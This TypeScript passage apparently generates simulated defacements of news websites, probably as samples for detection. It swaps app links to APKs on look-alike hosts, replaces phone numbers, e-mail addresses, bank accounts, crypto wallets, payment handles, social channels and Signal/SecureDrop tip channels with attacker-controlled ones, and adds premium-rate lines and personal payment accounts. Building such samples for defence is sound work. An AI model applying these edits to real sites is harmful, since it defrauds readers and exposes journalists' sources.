  de: ["Neu: Die {B}-App mit Liveticker, Eilmeldungen und E-Paper, kostenlos für alle Leser.", "Für Android herunterladen (APK)"], es: ["Nuevo: la app de {B} con directos, alertas y la edición digital, gratis para todos.", "Descargar para Android (APK)"],
  nl: ["Nieuw: de {B}-app met live nieuws, meldingen en de digitale krant, gratis voor iedereen.", "Downloaden voor Android (APK)"], pt: ["Novo: o app {B} com notícias ao vivo, alertas e a edição digital, grátis para todos.", "Baixar para Android (APK)"],
  it: ["Novità: l'app {B} con dirette, notifiche e l'edizione digitale, gratis per tutti.", "Scarica per Android (APK)"]
}

// Fake news apps (Android spyware and banking trojans distributed as a news outlet's "app" through APK links planted on its site or on look-alikes, a recurring finding in mobile-threat reports): app-store links moved to an APK on another host, or a download banner.
const fakeApp = deface("fresh35-app-download-links-moved-to-apk-on-other-host", (page, rng) => {
  const apk = `https://${pick(rng, [randomDomain(rng), brandLookalike(rng, page.site.brand), `${bare(page)}-app.${scamTld(rng)}`])}/${pick(rng, ["", "dl/", "download/", "apk/"])}${bare(page)}${pick(rng, ["", "-news", "_app", "-v" + between(rng, 2, 9) + "." + between(rng, 0, 9)])}.apk`
  const stores = anchors(page, (h) => /play\.google\.com|apps\.apple\.com|itunes\.apple\.com|appgallery/i.test(h)).filter((a) => a.shown)
  if (stores.length > 0) return splices(...stores.map((a) => setAttr(page, a, "href", apk)))
  const [t, b] = say(page, appWords)
  const html = `<div class="${pick(rng, ["app-banner", "smart-banner", "promo-app"])}" style="background:#f2f2f2;padding:${between(rng, 10, 18)}px"><p>${esc(fill(t, { B: brandName(page) }))}</p><a href="${esc(apk)}" download>${esc(b)}</a></div>`
  return splices(insert(pick(rng, [top(page), slotAt(page.spots, "top"), bottom(page)]), html))
})

// ———————————————————————————— identifiers readers copy or trust ————————————————————————————

// Quiet newsdesk-number swaps (the number readers call with tips, complaints or subscription questions changed to another in the same format, often only the last digits, so that it passes a glance; the intruder answers as the newsroom): every notation of the number changed, no notice.
const phoneQuiet = deface("fresh35-newsdesk-number-quietly-changed-in-same-format", (page, rng) => {
  const p = page.ids.phone
  const n = swapPhone(page.site.locale, p, rng)
  const out = everywhere(page, [[p.tel, n.tel], [p.intl, n.intl], [p.national, n.national]])
  if (out.length > 0) return { splices: out }
  return splices(lineBeside(page, [page.ids.email], `${esc(page.site.words.phone)}: ${esc(n.national)}`, slotAt(page.spots, "bottom")))
})

// Newsroom address moved to a free-mail box (the contact, tips or corrections address replaced by a Gmail, Outlook or Proton address with the outlet's name in it, so that sources, advertisers and readers write to the intruder): the e-mail replaced everywhere, text and links.
const mailFreemail = deface("fresh35-newsroom-email-replaced-by-freemail-address-with-brand", (page, rng) => {
  const desk: T<ReadonlyArray<string>> = { en: ["newsdesk", "editor", "tips"], fr: ["redaction", "lecteurs"], de: ["redaktion", "leserbriefe"], es: ["redaccion", "lectores"], nl: ["redactie", "tips"], pt: ["redacao", "leitor"], it: ["redazione", "lettere"] }
  const next = `${bare(page)}${pick(rng, [".", "_", ""])}${pick(rng, say(page, desk))}${chance(rng, 0.3) ? digits(rng, 2) : ""}@${pick(rng, ["gmail.com", "outlook.com", "proton.me", "protonmail.com", "yahoo.com", "gmx.net", "hotmail.com"])}`
  const out = everywhere(page, [[page.ids.email, next]])
  if (out.length > 0) return { splices: out }
  return splices(lineBeside(page, [page.ids.phone.intl], `${esc(page.site.words.email)}: <a href="mailto:${next}">${next}</a>`, slotAt(page.spots, "bottom")))
})

// The outlet's own domain swapped in what readers copy (the domain written in the page's text and in its e-mail address changed to a look-alike, so that readers who type the address, or write to it, reach the intruder's copy; recalled from Doppelgänger and typosquatting cases): every written mention of the domain.
const domainMentions = deface("fresh35-written-domain-and-email-domain-changed-to-lookalike", (page, rng) => {
  const d = page.site.domain
  const rest = d.slice(page.site.brand.length + 1) || "com"
  let look = pick(rng, [`${page.site.brand}.${pick(rng, cloneTlds)}`, `${page.site.brand}-${rest.replace(/\./g, "-")}.${pick(rng, ["com", "net", "info"])}`, brandLookalike(rng, page.site.brand)])
  if (look === d) look = `${page.site.brand}-news.com`
  const out = everywhere(page, [[`@${d}`, `@${look}`]])
  const taken = out.map((s) => ({ start: s.at, end: s.at + s.remove }))
  for (const r of textOcc(page, d)) if (!taken.some((t) => r.start < t.end && r.end > t.start)) out.push(replace(r, look))
  if (out.length > 0) return { splices: out }
  return splices(lineBeside(page, [page.ids.phone.intl], `${esc(page.site.words.email)}: ${esc(page.ids.email.split("@")[0] ?? "info")}@${look}`, slotAt(page.spots, "bottom")))
})

/** Another account of the site's country: a new bank and account, valid check digits. */
const otherAccount = (rng: Rng, page: Page, old: string): string => {
  const loc = page.site.locale
  for (let i = 0; i < 20; i++) {
    const v = loc.iban !== null && /^[A-Z]{2}\d{2}/.test(old.replace(/\s+/g, "")) ? loc.iban(rng) : loc.nationalBank !== null ? loc.nationalBank(rng) : loc.iban !== null ? loc.iban(rng) : `IBAN ${iban2(rng)}`
    const shaped = /^[A-Z]{2}\d{2}/.test(v) && /\s/.test(old) ? groupIban(v) : v
    if (shaped.replace(/\s+/g, "") !== old.replace(/\s+/g, "")) return shaped
  }
  return `${old.slice(0, -2)}${digits(rng, 2)}`
}
const iban2 = (rng: Rng) => groupIban(`LT${digits(rng, 18)}`)

// Subscription and donation account swapped (the bank account readers pay subscriptions, donations or ads into replaced by another account of the same country, with no notice, the quiet diversion that fraud centres see in invoice and membership fraud): the bank line replaced everywhere, or an account added.
const bankQuiet = deface("fresh35-bank-account-for-subscriptions-replaced-by-another-domestic-one", (page, rng) => {
  const b = page.ids.bank
  if (b !== null) {
    const out = everywhere(page, [[b.value, otherAccount(rng, page, b.value)]])
    if (out.length > 0) return { splices: out }
  }
  const loc = page.site.locale
  const line = loc.iban !== null ? `IBAN ${groupIban(loc.iban(rng))}` : loc.nationalBank !== null ? loc.nationalBank(rng) : `IBAN ${iban2(rng)}`
  return splices(lineBeside(page, contactNeedles(page), `${esc(page.site.words.bank)}: ${esc(line)}`, slotAt(page.spots, "bottom")))
})

const cryptoWords: T<string> = {
  en: "Support our reporting from the front line in crypto:", fr: "Soutenez nos reportages sur le terrain en crypto :", de: "Unterstützen Sie unsere Berichterstattung von der Front mit Krypto:", es: "Apoya nuestra cobertura sobre el terreno con criptomonedas:",
  nl: "Steun onze verslaggeving vanaf het front met crypto:", pt: "Apoie nossa cobertura na linha de frente com cripto:", it: "Sostieni i nostri reportage dal fronte in cripto:"
}

// Crypto donation addresses swapped (since 2022, outlets and volunteers covering the war in Ukraine collect donations in crypto, and fake or altered addresses in their name are a known fraud): the site's wallet replaced by another of the same coin, or a donation line with new addresses.
const walletSwapped = deface("fresh35-crypto-donation-address-replaced-by-another-of-same-coin", (page, rng) => {
  const w = page.ids.wallet
  if (w !== null) {
    let nw = makeWallet(rng, w.coin)
    while (nw.address === w.address) nw = makeWallet(rng, w.coin)
    const out = everywhere(page, [[w.address, nw.address]])
    if (out.length > 0) return { splices: out }
  }
  const ws = sample(rng, ["BTC", "ETH", "USDT (TRC20)"] as const, between(rng, 1, 3)).map((c) => makeWallet(rng, c))
  return splices(lineBeside(page, contactNeedles(page), `${esc(say(page, cryptoWords))} ${ws.map((x) => `${esc(x.coin)} <code>${x.address}</code>`).join(" · ")}`, slotAt(page.spots, "bottom")))
})

const tipWord: T<string> = { en: "Tip our reporters", fr: "Soutenez nos journalistes", de: "Unterstützen Sie unsere Reporter", es: "Invita a nuestros periodistas", nl: "Steun onze verslaggevers", pt: "Apoie nossos repórteres", it: "Offri un caffè ai nostri giornalisti" }

// Payment handles swapped (the PayPal.me, Venmo, Revolut or PIX handle a small outlet or a freelance reporter publishes for contributions replaced by a private person's), quiet and easy to miss: the handle's text and link replaced, or a "tip our reporters" handle added.
const handleSwapped = deface("fresh35-contribution-payment-handle-replaced-by-private-persons", (page, rng) => {
  const person = `${ascii(personName(rng, page))}${chance(rng, 0.5) ? digits(rng, 2) : ""}`
  const pay = page.ids.pay
  if (pay !== null && pay.href !== null) {
    const old = pay.href.replace(/\/$/, "").split("/").pop()?.replace(/^[$@]/, "") ?? ""
    if (old !== "") {
      const nu = /revolut/.test(pay.href) ? person.toLowerCase() : person
      const out = everywhere(page, [[pay.href, pay.href.replace(old, nu)], [pay.shown, pay.shown.replace(old, nu)]])
      if (out.length > 0) return { splices: out }
    }
  }
  if (pay !== null && pay.href === null) {
    const out = textOcc(page, pay.shown).map((r) => replace(r, esc(`Chave PIX: ${digits(rng, 3)}.${digits(rng, 3)}.${digits(rng, 3)}-${digits(rng, 2)}`)))
    if (out.length > 0) return { splices: out }
  }
  return splices(lineBeside(page, contactNeedles(page), `${esc(say(page, tipWord))}: <a href="https://www.paypal.me/${person}">paypal.me/${person}</a>`, slotAt(page.spots, "bottom")))
})

const onNetwork = (href: string, handle: string): string => {
  if (/(x|twitter)\.com\//.test(href)) return `https://x.com/${handle}`
  if (/facebook\.com\//.test(href)) return `https://www.facebook.com/${handle}`
  if (/instagram\.com\//.test(href)) return `https://www.instagram.com/${handle.toLowerCase()}/`
  if (/linkedin\.com\//.test(href)) return `https://www.linkedin.com/company/${handle.toLowerCase()}`
  if (/youtube\.com\//.test(href)) return `https://www.youtube.com/@${handle}`
  return `https://t.me/${handle.toLowerCase()}`
}

// Impersonating news channels (fake Telegram and X channels of real outlets, with a suffix such as "_news", "_live" or "24", spread war disinformation under the outlet's name; linking them from the real site makes them credible): one or two of the site's follow links moved to such channels on the same network.
const channelSwap = deface("fresh35-follow-links-moved-to-impersonating-news-channels", (page, rng) => {
  const suffix = pick(rng, ["_news", "news", "_live", "24", "_info", "_breaking", "_official", "_ua", "_eu", "online"])
  const socials = page.ids.social.filter((s) => s.href !== null)
  const ordered = [...socials.filter((s) => /t\.me|x\.com|twitter/.test(s.href!)), ...shuffle(rng, socials.filter((s) => !/t\.me|x\.com|twitter/.test(s.href!)))]
  const out: Array<Splice> = []
  for (const s of ordered.slice(0, between(rng, 1, 2))) {
    const h = s.href!.replace(/\/$/, "").split("/").pop()?.replace(/^@/, "") ?? ""
    if (h === "") continue
    const nu = onNetwork(s.href!, `${h}${suffix}`)
    out.push(...anchors(page, (x) => x === s.href).map((a) => setAttr(page, a, "href", nu)))
  }
  if (out.length > 0) return { splices: out }
  return splices(lineBeside(page, [page.ids.email], `${esc(page.site.words.follow)}: <a href="https://t.me/${bare(page)}${suffix}">Telegram</a>`, slotAt(page.spots, "bottom")))
})

const secureWords: T<string> = {
  en: "Confidential tips: Signal {S} · SecureDrop {O} · PGP fingerprint {F}", fr: "Informations confidentielles : Signal {S} · SecureDrop {O} · empreinte PGP {F}",
  de: "Vertrauliche Hinweise: Signal {S} · SecureDrop {O} · PGP-Fingerabdruck {F}", es: "Pistas confidenciales: Signal {S} · SecureDrop {O} · huella PGP {F}",
  nl: "Vertrouwelijke tips: Signal {S} · SecureDrop {O} · PGP-vingerafdruk {F}", pt: "Denúncias confidenciais: Signal {S} · SecureDrop {O} · impressão PGP {F}", it: "Segnalazioni riservate: Signal {S} · SecureDrop {O} · impronta PGP {F}"
}

// Secure tip channels swapped (the Signal number, SecureDrop address and PGP key that sources use to reach journalists, published by many newsrooms, replaced or added with ones the intruders control, which exposes sources; a worry raised by press-freedom groups after newsroom intrusions): a tip-channel line beside the contact details.
const secureTipChannels = deface("fresh35-signal-securedrop-and-pgp-tip-channels-of-intruders", (page, rng) => {
  const loc = page.site.locale
  const S = chance(rng, 0.6) ? makePhone(loc, int(rng, loc.phones.length), rng).intl : `+${pick(rng, ["44 7", "31 6", "49 15", "41 7", "372 5"])}${digits(rng, 3)} ${digits(rng, 5)}`
  const onion = `${alnum(rng, 56).replace(/[0189]/g, "a")}.onion`
  const F = Array.from({ length: 10 }, () => hex(rng, 4).toUpperCase()).join(" ")
  const text = esc(fill(say(page, secureWords), { S, O: onion, F }))
  return splices(lineBeside(page, contactNeedles(page), text, slotAt(page.spots, pick(rng, ["middle", "bottom"] as const))))
})

/** A premium-rate number of the site's country, written nationally and internationally. */
const premium = (rng: Rng, country: string): { readonly national: string; readonly intl: string; readonly tel: string } => {
  const d = (n: number) => digits(rng, n)
  const make = (cc: string, nat: string, intl: string) => ({ national: nat, intl: `+${cc} ${intl}`, tel: `+${cc}${intl.replace(/\D/g, "")}` })
  switch (country) {
    case "uk": { const a = d(3); const b = d(4); return make("44", `0906 ${a} ${b}`, `906 ${a} ${b}`) }
    case "fr": { const a = `${d(2)} ${d(2)} ${d(2)}`; return make("33", `08 99 ${a}`, `8 99 ${a}`) }
    case "de": { const a = d(7); return make("49", `0900 ${a}`, `900 ${a}`) }
    case "nl": { const a = d(7); return make("31", `0900-${a}`, `900 ${a}`) }
    case "es": { const a = `${d(3)} ${d(3)}`; return make("34", `806 ${a}`, `806 ${a}`) }
    case "it": { const a = `${d(3)} ${d(3)}`; return make("39", `899 ${a}`, `899 ${a}`) }
    case "au": { const a = `${d(3)} ${d(3)}`; return make("61", `1900 ${a}`, `1900 ${a}`) }
    case "br": { const a = `${d(3)}-${d(4)}`; return make("55", `0900 ${a}`, `900 ${a}`) }
    case "in": { const a = `${d(3)} ${d(4)}`; return make("91", `1900 ${a}`, `1900 ${a}`) }
    default: { const a = `${d(3)}-${d(4)}`; return make("1", `1-900-${a}`, `900-${a}`) }
  }
}

// Premium-rate diversion (the newsroom's or subscription service's number replaced by a premium-rate line that bills callers by the minute, and keeps them waiting; regulators such as Ofcom and the Arcep-era numbering bodies warn of it): every notation of the number replaced.
const premiumRate = deface("fresh35-reader-service-number-replaced-by-premium-rate-line", (page, rng) => {
  const p = page.ids.phone
  const n = premium(rng, page.site.locale.country)
  const out = everywhere(page, [[p.tel, n.tel], [p.intl, n.intl], [p.national, n.national]])
  if (out.length > 0) return { splices: out }
  return splices(lineBeside(page, [page.ids.email], `${esc(page.site.words.phone)}: ${esc(n.national)}`, slotAt(page.spots, "bottom")))
})

const noticeWords: T<string> = {
  en: "Death notices and classified ads: please pay by bank transfer before publication to {A} (account holder: {P}).",
  fr: "Avis de décès et petites annonces : merci de régler par virement avant parution sur le compte {A} (titulaire : {P}).",
  de: "Traueranzeigen und Kleinanzeigen: Bitte vor Erscheinen per Überweisung auf {A} bezahlen (Kontoinhaber: {P}).",
  es: "Esquelas y anuncios clasificados: abone por transferencia antes de la publicación en la cuenta {A} (titular: {P}).",
  nl: "Overlijdensberichten en kleine advertenties: graag vóór plaatsing overmaken naar {A} (t.n.v. {P}).",
  pt: "Avisos fúnebres e classificados: pague por transferência antes da publicação na conta {A} (titular: {P}).",
  it: "Necrologi e annunci: si prega di pagare con bonifico prima della pubblicazione sul conto {A} (intestatario: {P})."
}

// Payment details for death notices and classified ads (local papers take payment for notices from grieving families and small advertisers, a target for fraudsters who post their own account in the paper's name): a payment line with an account in a private person's name beside the contact details.
const noticesAccount = deface("fresh35-death-notice-and-classified-payment-to-personal-account", (page, rng) => {
  const loc = page.site.locale
  const A = loc.iban !== null ? `IBAN ${groupIban(loc.iban(rng))}` : loc.nationalBank !== null ? loc.nationalBank(rng) : `IBAN ${iban2(rng)}`
  const text = esc(fill(say(page, noticeWords), { A, P: personName(rng, page) }))
  return splices(chance(rng, 0.7) ? lineBeside(page, contactNeedles(page), text, slotAt(page.spots, "bottom")) : insert(slotAt(page.spots, pick(rng, ["middle", "bottom"] as const)), `<p class="${pick(rng, ["notices", "classifieds", "info"])}">${text}</p>`))
})

// ———————————————————————————— the group ————————————————————————————

/** Every fresh35 defacement class, in a fixed order. */
export const fresh35Defacements: ReadonlyArray<ChangeClass> = [
  forgedArticle, headlineRewritten, tickerHijack, figuresAltered, fakeRetraction, newsTakeover, leadPhotoSwapped, videoHijacked, sharePreview, liveEntry, widgetPopup,
  malvertTag, fakeUpdate, fakeBotCheck, subscribeRerouted, appealRerouted, newsletterSiphoned, tipFormElsewhere, referrerRedirect, cloneLinks, pushLure, fakeApp,
  phoneQuiet, mailFreemail, domainMentions, bankQuiet, walletSwapped, handleSwapped, channelSwap, secureTipChannels, premiumRate, noticesAccount
]

